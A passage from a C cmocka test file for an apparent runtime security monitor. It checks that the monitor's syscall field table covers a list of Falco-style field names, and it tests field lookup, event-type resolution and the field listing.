    "fd.net",
    "fd.sip.name",
    "fd.snet",
    "fd.sport",
    "fd.type",
    "k8s.ns.name",
    "proc.duration",
    "proc.exepath",
    "proc.is_exe_from_memfd",
    "proc.is_exe_upper_layer",
    "proc.tty",
    "user.uid",
    "user.loginuid",
    "fd.lport",
    "fd.rport",
    "container.start_ts",
    "group.gid",
    "group.name",
    "proc.pexepath",
    "proc.sname",
    "user.loginname",
    "evt.args",
    "fd.sip",
    "proc.aexepath",
    "proc.exe_ino.ctime",
    "proc.exe_ino.mtime",
    "proc.exe_ino.ctime_duration_proc_start",
    "k8s.pod.name",
    "container.name",
    "container.image",
    "evt.time",
    "evt.rawarg",
    "syscall.type",
};

static void test_table(void **state)
{
	const struct rt_fieldset *fs = &rt_fields_syscall;
	struct vakt_buf b = VAKT_BUF_INIT;
	const char *dk;
	size_t dl;

	(void)state;
	assert_string_equal(fs->source, "syscall");
	assert_true(fs->n_defs > 150);
	for (size_t i = 0; i < fs->n_defs; i++) {
		const struct rt_field_def *d = &fs->defs[i];

		assert_non_null(d->extract);
		assert_non_null(d->desc);
		assert_true(strlen(d->desc) > 5);
		for (size_t j = i + 1; j < fs->n_defs; j++)
			if (strcmp(d->name, fs->defs[j].name) == 0)
				fail_msg("field '%s' twice", d->name);
	}
	for (size_t i = 0; i < VAKT_ARRAY_SIZE(falco_fields); i++)
		if (!rt_fieldset_lookup(fs, falco_fields[i], strlen(falco_fields[i]), &dk, &dl))
			fail_msg("no field '%s'", falco_fields[i]);
	/* Dotted arguments: the longest dotted field wins (proc.exe_ino.ctime is its own). */
	assert_string_equal(rt_fieldset_lookup(fs, "evt.arg.flags", 13, &dk, &dl)->name, "evt.arg");
	assert_int_equal(dl, 5);
	assert_string_equal(rt_fieldset_lookup(fs, "thread.cgroup.memory", 20, &dk, &dl)->name,
	                    "thread.cgroup");
	assert_int_equal(fs->n_evtypes, RT_EV_COUNT);
	assert_null(fs->evtypes[0]);
	assert_int_equal(rt_fieldset_evtype(fs, "openat2", 7), RT_EV_OPENAT2);
	assert_int_equal(rt_fieldset_evtype(fs, "kill", 4), RT_EV_KILL);
	rt_fields_list(fs, &b);
	assert_non_null(strstr(vakt_buf_str(&b), "Fields of source syscall"));
	assert_non_null(strstr(vakt_buf_str(&b), "\nproc\n"));
	assert_non_null(strstr(vakt_buf_str(&b), "proc.aname[N]"));
	assert_non_null(strstr(vakt_buf_str(&b), "evt.arg.NAME"));
	assert_non_null(strstr(vakt_buf_str(&b), "IPNET"));
	vakt_buf_release(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_process),     cmocka_unit_test(test_files),
	    cmocka_unit_test(test_sockets),     cmocka_unit_test(test_container),
	    cmocka_unit_test(test_env),         cmocka_unit_test(test_more),
	    cmocka_unit_test(test_every_field), cmocka_unit_test(test_table),
	};

	/* evt.time is local time: fixed here so that the expectations do not depend on the host. */
	setenv("TZ", "UTC", 1);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
